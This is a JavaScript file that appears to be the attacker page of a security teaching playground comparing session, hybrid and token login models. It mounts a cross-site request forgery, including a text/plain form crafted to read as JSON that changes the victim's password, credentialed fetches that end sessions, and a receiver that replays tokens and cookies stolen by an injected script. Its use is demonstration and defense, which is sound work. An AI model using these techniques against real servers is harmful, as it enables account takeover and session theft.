// The attacker's page: a cross-site form and credentialed fetches against the victim's server, and
// a receiver for whatever an injected script steals. It reports what it could observe to the
// playground page (the only origin allowed to frame it), and nothing it did not observe.
"use strict";

const victim = document.querySelector('meta[name="tessera-victim-origin"]').content;
const params = new URLSearchParams(location.search);
const run = params.get("run");

function report(message) {
  document.getElementById("out").textContent = JSON.stringify(message, null, 1);
  if (window.parent !== window) window.parent.postMessage({ run, ...message }, victim);
}

// An auto-submitting form: a POST the browser sends with whatever cookies it would attach to a
// cross-site form. The answer lands in a frame whose content this page cannot read.
function submitForm(action, fields, enctype) {
  return new Promise((resolve) => {
    const sink = document.getElementById("sink");
    const form = document.createElement("form");
    form.method = "POST";
    form.action = victim + action;
    form.enctype = enctype;
    form.target = "sink";
    for (const [name, value] of fields) {
      const input = document.createElement("input");
      input.type = "hidden";
      input.name = name;
      input.value = value;
      form.append(input);
    }
    document.body.append(form);
    const done = () => resolve("sent; the answer is not readable from here");
    sink.addEventListener("load", done, { once: true });
    setTimeout(done, 3000);
    form.submit();
  });
}

async function tryFetch(path, init) {
  try {
    const r = await fetch(victim + path, { credentials: "include", ...init });
    if (r.type === "opaque") return "sent; the answer is opaque (no-cors)";
    return `${r.status}: ${(await r.text()).slice(0, 120)}`;
  } catch (e) {
    return `${e.name}: ${e.message}`;
  }
}

async function crossSite(model) {
  document.getElementById("doing").textContent = `Attacking the ${model} login.`;
  const results = [];
  // A text/plain form whose body reads as JSON: {"current_password":"guess", …}.
  const name = '{"current_password":"guess","new_password":"owned by the attacker","x":"';
  results.push({
    what: "form POST /v1/account/password",
    seen: await submitForm("/v1/account/password", [[name, '"}']], "text/plain"),
  });
  results.push({ what: "fetch GET /v1/me", seen: await tryFetch("/v1/me", {}) });
  const logout = {
    session: ["DELETE /v1/session", "/v1/session", { method: "DELETE" }],
    hybrid: ["DELETE /v1/hybrid/session", "/v1/hybrid/session", { method: "DELETE" }],
    token: ["DELETE /v1/sessions", "/v1/sessions", { method: "DELETE" }],
  }[model];
  if (logout) results.push({ what: `fetch ${logout[0]}`, seen: await tryFetch(logout[1], logout[2]) });
  if (model === "hybrid") {
    results.push({
      what: "fetch POST /v1/hybrid/refresh (no-cors)",
      seen: await tryFetch("/v1/hybrid/refresh", { method: "POST", mode: "no-cors" }),
    });
  }
  report({ kind: "csrf-done", model, results });
}

// What an injected script handed over: try it from this page (in the victim's browser), then
// from the attacker's own server.
async function useLoot(loot) {
  document.getElementById("doing").textContent = "Using what the injected script stole.";
  const result = { kind: "xss-done", model: loot.model };
  if (loot.access_token) {
    result.browser = await tryFetch("/v1/me", { headers: { authorization: `Bearer ${loot.access_token}` } });
  }
  try {
    const r = await fetch("/replay", {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({ access_token: loot.access_token, cookie: loot.cookie }),
    });
    result.server = await r.json();
  } catch (e) {
    result.server = { sent: [], status: 0, error: `${e.name}: ${e.message}` };
  }
  window.parent.postMessage({ ...result, run: loot.run }, victim);
  document.getElementById("out").textContent = JSON.stringify(result, null, 1);
}

window.addEventListener("message", (event) => {
  if (event.origin !== victim || !event.data || event.data.kind !== "loot") return;
  useLoot(event.data);
});

if (params.get("attack") === "csrf") {
  crossSite(params.get("model"));
} else if (params.get("listen")) {
  report({ kind: "ready" });
}
